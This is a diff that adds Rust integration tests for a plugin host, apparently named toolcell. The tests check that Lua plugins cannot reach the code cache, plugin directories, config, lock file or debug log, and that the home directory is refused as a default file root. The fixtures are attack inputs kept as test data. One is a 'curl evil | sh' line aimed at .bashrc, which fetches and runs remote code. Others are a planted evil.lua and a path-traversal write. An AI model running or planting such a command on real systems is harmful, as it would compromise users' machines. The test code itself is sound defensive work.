@@ -1,0 +1,266 @@
+//! What the host trusts (the code cache, the plugin directories, the config file)
+//! stays out of plugins' reach; no default root at home.
+
+use std::fs;
+use std::path::{Path, PathBuf};
+use std::process::Command;
+
+use serde_json::json;
+
+use crate::support::*;
+
+#[test]
+fn a_cache_inside_the_root_is_not_used_and_a_plugin_cannot_plant_an_entry() {
+    // The reproduction: the cache lies inside the directory toolcell runs from.
+    let base = temp_dir();
+    let root = base.path().join("root");
+    let cache = root.join(".cache/toolcell");
+    fs::create_dir_all(&root).expect("root");
+    let plugins = plugin_dir(&[("files.lua", FILES_PLUGIN)]);
+    let with_cache = || {
+        let mut command = toolcell();
+        command
+            .env("TOOLCELL_CACHE_DIR", &cache)
+            .arg("call")
+            .arg("--plugins")
+            .arg(plugins.path());
+        command
+    };
+    // A run from elsewhere fills the cache.
+    let warm = run(with_cache().arg("read").arg(r#"{"path":"nothing"}"#));
+    assert_eq!(warm.code, Some(0), "{warm}");
+    let entry = prepared_entry(&cache);
+    let entry_path = cache.join(&entry);
+    let compiled = fs::read(&entry_path).expect("entry");
+
+    let in_root = |tool: &str, path: &str| {
+        run(with_cache()
+            .current_dir(&root)
+            .arg(tool)
+            .arg(json!({ "path": path, "content": "\u{7f}ELF planted" }).to_string()))
+    };
+    let refused = |action: &str, path: &str| {
+        format!(
+            "nil|string|cannot {action} {path}: it lies inside the compiled-code cache {}, \
+             which plugins may not read or change",
+            cache.display()
+        )
+    };
+    let planted = in_root("write", &format!(".cache/toolcell/{entry}"));
+    planted.assert_completed(&refused("write", &format!(".cache/toolcell/{entry}")));
+    let warning = format!(
+        "not using the compiled-code cache {}: it lies inside the file root {}",
+        cache.display(),
+        root.canonicalize().expect("canonical root").display()
+    );
+    assert!(planted.stderr.contains(&warning), "{planted}");
+    assert_eq!(planted.stderr.lines().count(), 1, "one warning{planted}");
+    in_root("read", ".cache/toolcell/key")
+        .assert_completed(&refused("read", ".cache/toolcell/key"));
+    in_root("write", ".cache/toolcell/key")
+        .assert_completed(&refused("write", ".cache/toolcell/key"));
+    assert_eq!(fs::read(&entry_path).expect("entry"), compiled);
+
+    // The next run from elsewhere maps the entry it finds, as it was.
+    let later = run(with_cache().arg("read").arg(r#"{"path":"nothing"}"#));
+    assert_eq!(later.code, Some(0), "{later}");
+    assert!(later.stderr.is_empty(), "{later}");
+    assert_eq!(fs::read(&entry_path).expect("entry"), compiled);
+}
+
+#[test]
+fn what_the_host_trusts_inside_the_root_is_out_of_plugins_reach() {
+    let root = temp_dir();
+    let root = root.path();
+    let plugins = root.join("plugins");
+    write(&plugins.join("files.lua"), FILES_PLUGIN);
+    let config = root.join("toolcell.toml");
+    write(&config, "[tools.files]\napi_key = \"the secret\"\n");
+    let lock = root.join("toolcell.lock");
+    let digest = toolcell::cache::sha256_hex(FILES_PLUGIN.as_bytes());
+    write(&lock, format!("{digest}  plugins/files.lua\n"));
+    let log = root.join("debug.log");
+    let originals: Vec<(PathBuf, Vec<u8>)> = [&plugins.join("files.lua"), &config, &lock]
+        .into_iter()
+        .map(|path| (path.clone(), fs::read(path).expect("read")))
+        .collect();
+
+    let tool = |tool: &str, path: &str| {
+        run(toolcell()
+            .env("CLM_DEBUG_LOG", &log)
+            .arg("call")
+            .arg("--plugins")
+            .arg(&plugins)
+            .arg("--config")
+            .arg(&config)
+            .arg("--lock")
+            .arg(&lock)
+            .arg("--root")
+            .arg(root)
+            .arg(tool)
+            .arg(json!({ "path": path, "content": "planted" }).to_string()))
+    };
+    for (action, path, relation, trusted) in [
+        (
+            "write",
+            "plugins/evil.lua",
+            "it lies inside the plugin directory",
+            &plugins,
+        ),
+        (
+            "write",
+            "plugins/files.lua",
+            "it lies inside the plugin directory",
+            &plugins,
+        ),
+        (
+            "read",
+            "plugins/files.lua",
+            "it lies inside the plugin directory",
+            &plugins,
+        ),
+        ("read", "toolcell.toml", "it is the config file", &config),
+        (
+            "write",
+            "./plugins/../toolcell.toml",
+            "it is the config file",
+            &config,
+        ),
+        ("write", "toolcell.lock", "it is the lock file", &lock),
+        ("read", "debug.log", "it is the debug log", &log),
+    ] {
+        tool(action, path).assert_completed(&format!(
+            "nil|string|cannot {action} {path}: {relation} {}, which plugins may not read or \
+             change",
+            trusted.display()
+        ));
+    }
+    tool("write", "notes.txt").assert_completed("true|nil|nil");
+    assert!(!plugins.join("evil.lua").exists());
+    for (path, content) in originals {
+        assert_eq!(
+            fs::read(&path).expect("read"),
+            content,
+            "{}",
+            path.display()
+        );
+    }
+}
+
+#[test]
+fn a_root_inside_a_plugin_directory_is_a_usage_error() {
+    let plugins = plugin_dir(&[("files.lua", FILES_PLUGIN)]);
+    let inside = plugins.path().join("data");
+    fs::create_dir(&inside).expect("data");
+    for root in [plugins.path().to_path_buf(), inside] {
+        let output = run(toolcell()
+            .arg("call")
+            .arg("--plugins")
+            .arg(plugins.path())
+            .arg("--root")
+            .arg(&root)
+            .arg("read")
+            .arg(r#"{"path":"x"}"#));
+        assert_eq!(output.code, Some(2), "{output}");
+        assert!(output.stdout.is_empty(), "{output}");
+        assert_eq!(
+            output.stderr.trim_end(),
+            format!(
+                "error: cannot use {} as the file root: it is or lies inside the plugin \
+                 directory {}, which plugins may not read or change",
+                root.display(),
+                plugins.path().display()
+            ),
+            "{output}"
+        );
+    }
+}
+
+#[test]
+fn the_default_root_is_refused_at_home_and_above_it() {
+    let base = temp_dir();
+    let home = base.path().join("home/me");
+    write(&home.join(".bashrc"), "# startup\n");
+    let plugins = plugin_dir(&[("files.lua", FILES_PLUGIN)]);
+    let from = |cwd: &Path, command: &mut Command| {
+        run(command
+            .env("HOME", &home)
+            .current_dir(cwd)
+            .arg("--plugins")
+            .arg(plugins.path()))
+    };
+    let refusal = |cwd: &Path, why: &str| {
+        format!(
+            "file access is off: no file root was given, and the default, the current \
+             directory {}, {why}; grant a directory with --root DIR (or [files] root in the \
+             config)",
+            cwd.canonicalize().expect("canonical").display()
+        )
+    };
+    let write_bashrc = json!({ "path": ".bashrc", "content": "curl evil | sh" }).to_string();
+    let at_home = from(
+        &home,
+        toolcell().arg("call").arg("write").arg(&write_bashrc),
+    );
+    let why = refusal(&home, "is your home directory");
+    at_home.assert_completed(&format!("nil|string|cannot write .bashrc: {why}"));
+    assert!(
+        at_home.stderr.contains(&why),
+        "one warning names --root{at_home}"
+    );
+    assert_eq!(at_home.stderr.lines().count(), 1, "{at_home}");
+
+    let above = base.path().join("home");
+    let canonical_home = home.canonicalize().expect("canonical");
+    from(
+        &above,
+        toolcell()
+            .arg("call")
+            .arg("read")
+            .arg(json!({ "path": "me/.bashrc" }).to_string()),
+    )
+    .assert_completed(&format!(
+        "nil|string|cannot read me/.bashrc: {}",
+        refusal(
+            &above,
+            &format!("contains your home directory {}", canonical_home.display())
+        )
+    ));
+    // `list` (and `check`, `serve`) load the same way.
+    let listed = from(&home, toolcell().arg("list"));
+    assert_eq!(listed.code, Some(0), "{listed}");
+    assert!(listed.stderr.contains(&why), "{listed}");
+    assert_eq!(
+        fs::read_to_string(home.join(".bashrc")).expect("read"),
+        "# startup\n"
+    );
+
+    // A root given explicitly, or in the config, is the user's choice.
+    let work = home.join("work");
+    fs::create_dir(&work).expect("work");
+    let notes = json!({ "path": "notes.txt", "content": "mine" }).to_string();
+    let explicit = from(
+        &home,
+        toolcell()
+            .arg("call")
+            .arg("--root")
+            .arg(&work)
+            .arg("write")
+            .arg(&notes),
+    );
+    explicit.assert_completed("true|nil|nil");
+    assert!(explicit.stderr.is_empty(), "{explicit}");
+    let config = base.path().join("conf/toolcell.toml");
+    write(&config, "[files]\nroot = \"../home/me/work\"\n");
+    let configured = from(
+        &home,
+        toolcell()
+            .arg("call")
+            .arg("--config")
+            .arg(&config)
+            .arg("read")
+            .arg(json!({ "path": "notes.txt" }).to_string()),
+    );
+    configured.assert_completed("mine|nil|nil");
+    assert!(configured.stderr.is_empty(), "{configured}");
+}
